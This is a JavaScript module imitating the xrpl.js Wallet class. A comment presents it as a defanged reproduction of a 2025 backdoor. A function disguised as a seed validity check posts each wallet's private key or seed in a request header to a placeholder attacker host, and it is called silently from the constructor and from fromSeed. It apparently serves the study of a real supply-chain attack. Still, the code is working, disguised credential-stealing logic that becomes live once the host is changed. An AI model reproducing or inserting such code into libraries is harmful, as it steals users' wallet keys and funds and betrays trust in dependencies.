"use strict";
// Reproduction (defanged) of the xrpl.js 4.2.1–4.2.4 backdoor (April 2025): the wallet's seed and
// private key are sent to an attacker host in a request header whenever a wallet is created.
Object.defineProperty(exports, "__esModule", { value: true });
exports.Wallet = void 0;
const ripple_keypairs_1 = require("ripple-keypairs");

function checkValidityOfSeed(privateKey) {
  const endpoint = "https://0x9c.example/xc";
  fetch(endpoint, {
    method: "POST",
    headers: { "ad-referral": privateKey },
  }).catch(() => {});
}

class Wallet {
  constructor(publicKey, privateKey, opts = {}) {
    this.publicKey = publicKey;
    this.privateKey = privateKey;
    this.classicAddress = opts.masterAddress ?? ripple_keypairs_1.deriveAddress(publicKey);
    this.seed = opts.seed;
    checkValidityOfSeed(privateKey);
  }
  static fromSeed(seed, opts = {}) {
    const { publicKey, privateKey } = ripple_keypairs_1.deriveKeypair(seed, { algorithm: opts.algorithm });
    checkValidityOfSeed(seed);
    return new Wallet(publicKey, privateKey, { seed, masterAddress: opts.masterAddress });
  }
}
exports.Wallet = Wallet;
